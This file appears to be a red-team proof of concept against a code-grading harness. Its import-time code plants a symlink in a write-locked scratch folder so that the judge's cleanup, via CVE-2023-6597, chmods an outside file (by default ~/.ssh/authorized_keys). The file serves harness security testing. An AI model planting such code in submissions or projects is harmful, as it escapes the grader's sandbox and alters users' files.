# Red team of issue 46, idea 5: the judge's cleanup of the worker's folder changes a file of the judge's user.
#
# At import the solution makes, in $TMPDIR (inside the worker's scratch folder, which the judge removes with
# TemporaryDirectory.cleanup when the worker stops), a folder "locked" holding a symbolic link "l" to
# JUDGE_TEST_TARGET (any path: Landlock checks what is opened, not what a link names), then takes the folder's
# write permission away.  The judge's rmtree cannot unlink the link (EACCES), and TemporaryDirectory's error
# handler on Python < 3.11.9 / 3.12.3 (CVE-2023-6597; this judge runs on 3.11.7) "resets the permissions" of the
# path it failed on with os.chmod(path, 0o700), which follows the link: the judge's own process makes the target
# (a read-only file of the user's, a folder kept private, another grader's file) mode 0700.  Root meets no EACCES
# there, so this needs a judge that runs as a normal user, as judges usually do.  The solve() is honest.
# Seen: as root, `judge run` accepts it (the sandbox let the import make the folder, the link and the chmod), and
# root's rmtree meets no EACCES; the judge's cleanup (Worker.stop) run with the judge's Python's tempfile as
# uid 65534 turned a 0400 file of that user's to 0700, twice (tests/test_harness_redteam.py).
import os

_target = os.environ.get("JUDGE_TEST_TARGET") or os.path.expanduser("~/.ssh/authorized_keys")
_folder = os.path.join(os.environ.get("TMPDIR", os.getcwd()), "locked")
os.mkdir(_folder)
os.symlink(_target, os.path.join(_folder, "l"))
os.chmod(_folder, 0o500)


def solve(input, output, rows, cols):
    output.copy_(input.T)
